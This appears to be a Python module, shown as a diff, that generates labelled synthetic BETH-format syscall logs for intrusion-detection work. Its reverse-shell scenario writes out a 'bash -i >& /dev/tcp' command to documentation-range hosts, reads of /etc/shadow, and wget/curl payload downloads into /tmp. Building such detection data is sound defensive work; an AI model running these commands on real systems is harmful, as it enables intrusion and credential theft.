@@ -1,0 +1,302 @@
+"""The synthetic labelled trace generator: seeded BETH-format (16-column) CSVs of benign and attack behaviour.
+
+Everything it writes is made up and named so: file names start with ``synthetic_`` (``generate`` adds the
+prefix when the name lacks it), hosts are ``synthetic-host-N`` and attacker addresses come from the
+documentation ranges (RFC 5737). The BETH reader reads these files; their rows get source ``synthetic``.
+
+Benign behaviour repeats like real logs: systemd reading ``/proc/N/cgroup``, systemd-resolve on its unix
+socket, sshd logins, cron running ``run-parts``, nginx serving pages, postgres touching its data files.
+Attack episodes (``evil=1``, ``sus=1``) are a reverse shell: a compromised sshd or nginx worker spawns
+``bash -i >& /dev/tcp/IP/PORT``, which connects out, reads ``/etc/shadow`` and ``/etc/passwd``, downloads a
+binary into ``/tmp`` with wget or curl, makes it executable, runs it, and the implant beacons out and
+deletes itself. The events that lead to it (the login or request that opened the door) are ``sus=1,
+evil=0``. Lines are written in chunks, so 10x or 100x files stream to disk at a steady pace.
+"""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+#: The 16 BETH columns, in order.
+COLUMNS: tuple[str, ...] = (
+    "timestamp", "processId", "threadId", "parentProcessId", "userId", "mountNamespace", "processName",
+    "hostName", "eventId", "eventName", "stackAddresses", "argsNum", "returnValue", "args", "sus", "evil",
+)
+TRAIN_NAME = "synthetic_train.csv"
+TEST_NAME = "synthetic_test.csv"
+EVENT_IDS: dict[str, int] = {
+    "read": 0, "write": 1, "close": 3, "stat": 4, "fstat": 5, "access": 21, "dup2": 33, "socket": 41,
+    "connect": 42, "accept": 43, "sendto": 44, "recvfrom": 45, "getsockname": 51, "clone": 56, "execve": 59,
+    "kill": 62, "unlink": 87, "chmod": 90, "setreuid": 113, "prctl": 157, "getdents64": 217, "openat": 257,
+    "sched_process_exit": 1000, "security_bprm_check": 1004, "security_file_open": 1005,
+}
+_ATTACKERS = ("203.0.113", "198.51.100")
+_PORTS = (4444, 1337, 9001, 31337, 5555)
+
+Arg = tuple[str, str, Any]
+#: (process name, pid, ppid, uid, event name, return value, args, sus, evil)
+Event = tuple[str, int, int, int, str, int, list[Arg], int, int]
+
+
+def _args(args: list[Arg]) -> str:
+    """BETH's Python-literal args text, CSV-quoted."""
+    body = ", ".join(f"{{'name': '{n}', 'type': '{t}', 'value': {v!r}}}" for n, t, v in args)
+    return '"[' + body.replace('"', '""') + ']"'
+
+
+def _sock(ip: str, port: int) -> Arg:
+    return ("addr", "struct sockaddr*", f"{{'sa_family': 'AF_INET','sin_port': '{port}','sin_addr': '{ip}'}}")
+
+
+def _unix(path: str) -> Arg:
+    return ("addr", "struct sockaddr*", f"{{'sa_family': 'AF_UNIX','sun_path': '{path}'}}")
+
+
+_CLONE_ARGS: list[Arg] = [("flags", "unsigned long", "CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID")]
+
+
+def _conn(fd: int, addr: Arg) -> list[Arg]:
+    return [("sockfd", "int", fd), addr, ("addrlen", "int", 16)]
+
+
+def _io(fd: int, count: int) -> list[Arg]:
+    return [("fd", "int", fd), ("buf", "void*", "0x55A0"), ("count", "size_t", count)]
+
+
+def _exec(path: str, argv: list[str]) -> list[Arg]:
+    return [("pathname", "const char*", path), ("argv", "const char**", argv)]
+
+
+def _open(name: str, pid: int, ppid: int, uid: int, path: str, flags: str, ret: int = 3, s: int = 0,
+          e: int = 0) -> Iterator[Event]:
+    yield name, pid, ppid, uid, "security_file_open", 0, [
+        ("pathname", "const char*", path), ("flags", "unsigned int", flags.replace("O_CLOEXEC", "O_LARGEFILE")),
+        ("dev", "dev_t", 2049), ("inode", "unsigned long", 1000 + len(path) * 37)], s, e
+    yield name, pid, ppid, uid, "openat", ret, [
+        ("dirfd", "int", -100), ("pathname", "const char*", path), ("flags", "int", flags), ("mode", "mode_t", 0)
+    ], s, e
+
+
+# ------------------------------------------------------------------------------------------------ benign
+def _systemd(r: random.Random) -> Iterator[Event]:
+    target = r.randint(300, 9000)
+    yield from _open("systemd", 1, 0, 0, f"/proc/{target}/cgroup", "O_RDONLY|O_CLOEXEC", ret=r.randint(14, 40))
+    yield "systemd", 1, 0, 0, "fstat", 0, [("fd", "int", 14), ("statbuf", "struct stat*", "0x7FFD0A3C2F10")], 0, 0
+    yield "systemd", 1, 0, 0, "close", 0, [("fd", "int", 14)], 0, 0
+
+
+def _resolved(r: random.Random) -> Iterator[Event]:
+    pid = 380 + r.randint(0, 5)
+    yield "systemd-resolve", pid, 1, 101, "socket", 15, [
+        ("domain", "int", "AF_UNIX"), ("type", "int", "SOCK_DGRAM|SOCK_CLOEXEC"), ("protocol", "int", 0)], 0, 0
+    yield "systemd-resolve", pid, 1, 101, "connect", 0, [
+        ("sockfd", "int", 15), _unix("/run/systemd/journal/socket"), ("addrlen", "int", 29)], 0, 0
+    yield from _open("systemd-resolve", pid, 1, 101, f"/run/systemd/netif/links/{r.randint(2, 5)}",
+                     "O_RDONLY|O_CLOEXEC", ret=15)
+    yield "systemd-resolve", pid, 1, 101, "close", 0, [("fd", "int", 15)], 0, 0
+
+
+def _client(r: random.Random) -> tuple[str, int]:
+    return f"10.100.{r.randint(0, 3)}.{r.randint(2, 250)}", r.randint(32768, 60999)
+
+
+def _sshd(r: random.Random, sus: int = 0, peer: tuple[str, int] | None = None, pid: int = 0) -> Iterator[Event]:
+    pid = pid or r.randint(1000, 30000)
+    ip, port = peer or _client(r)
+    yield "sshd", 720, 1, 0, "accept", 5, _conn(3, _sock(ip, port)), sus, 0
+    yield "sshd", 720, 1, 0, "clone", pid, [("flags", "unsigned long", "CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID"),
+                                             ("stack", "void*", "0x0")], sus, 0
+    yield from _open("sshd", pid, 720, 0, "/etc/ssh/sshd_config", "O_RDONLY|O_CLOEXEC", s=sus)
+    yield from _open("sshd", pid, 720, 0, "/etc/passwd", "O_RDONLY|O_CLOEXEC", s=sus)
+    yield "sshd", pid, 720, 0, "getsockname", 0, [("sockfd", "int", 5), _sock("10.100.1.5", 22)], sus, 0
+    yield "sshd", pid, 720, 0, "setreuid", 0, [("ruid", "uid_t", -1), ("euid", "uid_t", 1000)], sus, 0
+    if not sus:
+        yield "sshd", pid, 720, 1000, "sched_process_exit", 0, [], 0, 0
+
+
+def _cron(r: random.Random) -> Iterator[Event]:
+    sh, rp = r.randint(1000, 30000), r.randint(1000, 30000)
+    part = r.choice(("hourly", "hourly", "daily"))
+    yield "cron", 650, 1, 0, "clone", sh, _CLONE_ARGS, 0, 0
+    job = f"/etc/cron.{part}"
+    yield "sh", sh, 650, 0, "execve", 0, _exec("/bin/sh", ["/bin/sh", "-c", f"run-parts --report {job}"]), 0, 0
+    yield "sh", sh, 650, 0, "clone", rp, _CLONE_ARGS, 0, 0
+    yield "sh", rp, sh, 0, "execve", 0, _exec("/bin/run-parts", ["run-parts", "--report", job]), 0, 0
+    yield from _open("run-parts", rp, sh, 0, job, "O_RDONLY|O_NONBLOCK|O_CLOEXEC|O_DIRECTORY")
+    dirp: list[Arg] = [("fd", "int", 3), ("dirp", "struct linux_dirent64*", "0x55D1")]
+    yield "run-parts", rp, sh, 0, "getdents64", 96, dirp, 0, 0
+    yield "run-parts", rp, sh, 0, "sched_process_exit", 0, [], 0, 0
+    yield "sh", sh, 650, 0, "sched_process_exit", 0, [], 0, 0
+
+
+_PAGES = ("/var/www/html/index.html", "/var/www/html/about.html", "/var/www/html/static/app.js",
+          "/var/www/html/static/style.css", "/var/www/html/favicon.ico")
+
+
+def _nginx(r: random.Random) -> Iterator[Event]:
+    worker = 900 + r.randint(0, 3)
+    yield "nginx", worker, 899, 33, "accept", 9, _conn(6, _sock(*_client(r))), 0, 0
+    page = r.choice(_PAGES)
+    if r.random() < 0.1:
+        missing: list[Arg] = [("dirfd", "int", -100), ("pathname", "const char*", "/var/www/html/robots.txt"),
+                              ("flags", "int", "O_RDONLY|O_NONBLOCK")]
+        yield "nginx", worker, 899, 33, "openat", -2, missing, 0, 0
+    else:
+        yield from _open("nginx", worker, 899, 33, page, "O_RDONLY|O_NONBLOCK", ret=10)
+        yield "nginx", worker, 899, 33, "fstat", 0, [("fd", "int", 10), ("statbuf", "struct stat*", "0x7FFE1")], 0, 0
+        yield "nginx", worker, 899, 33, "close", 0, [("fd", "int", 10)], 0, 0
+    yield "nginx", worker, 899, 33, "write", 96, _io(4, 96), 0, 0
+    yield "nginx", worker, 899, 33, "close", 0, [("fd", "int", 9)], 0, 0
+
+
+def _postgres(r: random.Random) -> Iterator[Event]:
+    pid = r.randint(1000, 30000)
+    yield "postgres", pid, 1100, 112, "connect", 0, [("sockfd", "int", 8), _unix("/var/run/postgresql/.s.PGSQL.5432"),
+                                                     ("addrlen", "int", 110)], 0, 0
+    for _ in range(r.randint(1, 3)):
+        rel = r.choice((1259, 1249, 2608, 16384, 16385, 16390))
+        yield from _open("postgres", pid, 1100, 112, f"/var/lib/postgresql/14/main/base/16384/{rel}", "O_RDWR", ret=12)
+        yield "postgres", pid, 1100, 112, "read", 8192, _io(12, 8192), 0, 0
+    yield "postgres", pid, 1100, 112, "write", 8192, _io(9, 8192), 0, 0
+    yield "postgres", pid, 1100, 112, "stat", 0, [("pathname", "const char*", "/var/lib/postgresql/14/main/pg_wal"),
+                                                  ("statbuf", "struct stat*", "0x7FFC2")], 0, 0
+
+
+#: (scenario, weight): many repeats of a few routines, like real hosts.
+BENIGN: tuple[tuple[Callable[[random.Random], Iterator[Event]], int], ...] = (
+    (_systemd, 30), (_resolved, 20), (_nginx, 25), (_postgres, 15), (_cron, 5), (_sshd, 5),
+)
+
+
+# ------------------------------------------------------------------------------------------------ attack
+def _reverse_shell(r: random.Random) -> Iterator[Event]:
+    ip = f"{r.choice(_ATTACKERS)}.{r.randint(2, 254)}"
+    port, stage2 = r.choice(_PORTS), r.choice(_PORTS)
+    drop = f"/tmp/.{r.choice(('x', 'cache', 'sysd', 'kworker'))}{r.randint(10, 99)}"
+    if r.random() < 0.5:  # the door: a login from the attacker, suspicious but not yet the attack
+        parent, pname, uid = r.randint(1000, 30000), "sshd", 1000
+        yield from _sshd(r, sus=1, peer=(ip, r.randint(32768, 60999)), pid=parent)
+    else:
+        parent, pname, uid = 900 + r.randint(0, 3), "nginx", 33
+        yield "nginx", parent, 899, 33, "accept", 9, _conn(6, _sock(ip, r.randint(32768, 60999))), 1, 0
+    sh = r.randint(1000, 30000)
+    pp = 720 if pname == "sshd" else 899
+    yield pname, parent, pp, uid, "clone", sh, _CLONE_ARGS, 1, 1
+    cmd = f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"
+    yield "bash", sh, parent, uid, "execve", 0, _exec("/bin/bash", ["bash", "-c", cmd]), 1, 1
+    yield "bash", sh, parent, uid, "socket", 3, [("domain", "int", "AF_INET"), ("type", "int", "SOCK_STREAM"),
+                                                ("protocol", "int", 0)], 1, 1
+    yield "bash", sh, parent, uid, "connect", 0, _conn(3, _sock(ip, port)), 1, 1
+    for fd in (0, 1):
+        yield "bash", sh, parent, uid, "dup2", fd, [("oldfd", "int", 3), ("newfd", "int", fd)], 1, 1
+    yield from _open("bash", sh, parent, uid, "/etc/shadow", "O_RDONLY", ret=-13 if uid else 4, s=1, e=1)
+    yield from _open("bash", sh, parent, uid, "/etc/passwd", "O_RDONLY", ret=4, s=1, e=1)
+    dl = r.randint(1000, 30000)
+    tool = r.choice(("wget", "curl"))
+    url = f"http://{ip}:8080/{r.choice(('x', 'payload', 'k'))}"
+    argv = ["wget", "-q", url, "-O", drop] if tool == "wget" else ["curl", "-s", "-o", drop, url]
+    yield "bash", sh, parent, uid, "clone", dl, _CLONE_ARGS, 1, 1
+    yield tool, dl, sh, uid, "execve", 0, _exec(f"/usr/bin/{tool}", argv), 1, 1
+    yield tool, dl, sh, uid, "connect", 0, _conn(3, _sock(ip, 8080)), 1, 1
+    yield from _open(tool, dl, sh, uid, drop, "O_WRONLY|O_CREAT|O_TRUNC", ret=4, s=1, e=1)
+    yield tool, dl, sh, uid, "write", 65536, _io(4, 65536), 1, 1
+    yield tool, dl, sh, uid, "sched_process_exit", 0, [], 1, 1
+    yield "bash", sh, parent, uid, "chmod", 0, [("pathname", "const char*", drop), ("mode", "mode_t", "S_IRWXU")], 1, 1
+    imp = r.randint(1000, 30000)
+    yield "bash", sh, parent, uid, "clone", imp, _CLONE_ARGS, 1, 1
+    name = drop.rsplit("/", 1)[1]
+    yield name, imp, sh, uid, "execve", 0, _exec(drop, [drop]), 1, 1
+    yield name, imp, sh, uid, "security_bprm_check", 0, [("pathname", "const char*", drop)], 1, 1
+    for _ in range(r.randint(2, 4)):
+        yield name, imp, sh, uid, "connect", -111, _conn(5, _sock(ip, stage2)), 1, 1
+    yield name, imp, sh, uid, "unlink", 0, [("pathname", "const char*", drop)], 1, 1
+
+
+# ------------------------------------------------------------------------------------------------ writer
+def _choose(r: random.Random) -> Callable[[random.Random], Iterator[Event]]:
+    total = sum(w for _, w in BENIGN)
+    x = r.random() * total
+    for fn, w in BENIGN:
+        x -= w
+        if x < 0:
+            return fn
+    return BENIGN[-1][0]
+
+
+def events(n_events: int, seed: int = 0, attack_fraction: float = 0.02) -> Iterator[Event]:
+    """The first ``n_events`` events of the seeded trace (about ``attack_fraction`` of them ``evil``)."""
+    if not 0 <= attack_fraction < 1:
+        raise ValueError("attack_fraction must be in [0, 1)")
+    r = random.Random(seed)
+    written = evil = 0
+    while written < n_events:
+        attack = attack_fraction > 0 and evil < attack_fraction * (written + 30) and r.random() < 0.2
+        for ev in (_reverse_shell if attack else _choose(r))(r):
+            if written >= n_events:
+                return
+            written += 1
+            evil += ev[8]
+            yield ev
+
+
+def generate(path: str | Path, n_events: int, seed: int = 0, attack_fraction: float = 0.02,
+             host: str = "synthetic-host-1", chunk_rows: int = 20_000) -> dict[str, Any]:
+    """Write a labelled BETH-format CSV of ``n_events`` synthetic events (streamed, in chunks).
+
+    Args:
+        path: output file; its name gets the ``synthetic_`` prefix when it lacks it.
+        n_events: rows to write (the header is extra).
+        seed: the same seed writes the same bytes.
+        attack_fraction: about this share of rows are attack events (``evil=1``); 0 writes benign only.
+        host: ``hostName`` of every row.
+        chunk_rows: lines buffered per write.
+
+    Returns:
+        ``{"path": ..., "rows": ..., "evil": ..., "sus": ...}``.
+    """
+    out = Path(path)
+    if not out.name.startswith("synthetic_"):
+        out = out.with_name(f"synthetic_{out.name}")
+    out.parent.mkdir(parents=True, exist_ok=True)
+    r = random.Random(seed + 1_000_003)  # timing and stacks: separate stream from the behaviour
+    ts = 100.0
+    rows = evil = sus = 0
+    stacks: dict[str, str] = {}
+    with open(out, "w", encoding="utf-8", newline="") as fh:
+        fh.write(",".join(COLUMNS) + "\n")
+        buf: list[str] = []
+        for name, pid, ppid, uid, ev, ret, args, s, e in events(n_events, seed, attack_fraction):
+            ts += r.expovariate(200.0)
+            stack = stacks.get(name)
+            if stack is None:
+                base = r.randint(93_000_000_000_000, 140_000_000_000_000)
+                stack = stacks[name] = f'"[{base}, {base + r.randint(1000, 99999)}]"'
+            ns = 4026531840 if uid >= 1000 else 4026532231
+            buf.append(f"{ts:.6f},{pid},{pid},{ppid},{uid},{ns},{name},{host},{EVENT_IDS[ev]},{ev},{stack},"
+                       f"{len(args)},{ret},{_args(args)},{s},{e}\n")
+            rows += 1
+            evil += e
+            sus += s
+            if len(buf) >= chunk_rows:
+                fh.write("".join(buf))
+                buf = []
+        fh.write("".join(buf))
+    return {"path": str(out), "rows": rows, "evil": evil, "sus": sus}
+
+
+def default_demo_input(directory: str | Path, train_events: int = 3000, test_events: int = 2000,
+                       seed: int = 0) -> tuple[Path, Path]:
+    """Write the demo's default input in ``directory``: a benign-only ``synthetic_train.csv`` and a
+    ``synthetic_test.csv`` with attacks (rewritten each time: it is fast and deterministic).
+
+    Returns:
+        ``(train file, test file)``.
+    """
+    root = Path(directory)
+    train, test = root / TRAIN_NAME, root / TEST_NAME
+    generate(train, train_events, seed=seed, attack_fraction=0.0)
+    generate(test, test_events, seed=seed + 1, attack_fraction=0.05)
+    return train, test
